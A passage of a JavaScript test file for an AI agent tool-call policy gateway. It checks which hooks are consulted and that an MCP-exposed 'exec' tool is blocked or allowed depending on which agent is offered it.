    let refused = false;
    fake.reply = (q) => {
      if (q.hook !== "loop_iteration_start" || refused) return {};
      refused = true;
      return { code };
    };
    modelCall(p, "model_call_started", { callId: "r1:model:2" }, owner);
    await trustedPolicy(p, exec, owner);
    assert.deepEqual(fake.asked.map((q) => q.hook), ["loop_iteration_start", "loop_iteration_start", "before_tool_call"]);
  });
}

test("what the gateway's tools are called over MCP is no server's name where the model is offered them by their own", async (t) => {
  const { fake, p } = await rig(t);
  const event = { toolName: "mcp__openclaw__exec", params: {}, toolCallId: "c1" };
  llmInput(p, { tools: [{ name: "exec" }, { name: event.toolName }] }, { agentId: "main" });
  llmInput(p, { tools: [{ name: event.toolName }] }, { agentId: "ops" });
  const own = await trustedPolicy(p, event, { agentId: "main", sessionKey: "agent:main:main" });
  assert.match(own?.blockReason ?? "", /^Tool 'mcp__openclaw__exec' is blocked: /);
  assert.equal(fake.asked.length, 0);
  assert.equal(await trustedPolicy(p, event, { agentId: "ops", sessionKey: "agent:ops:main" }), undefined);
  assert.equal(fake.of("before_tool_call").length, 1);
});
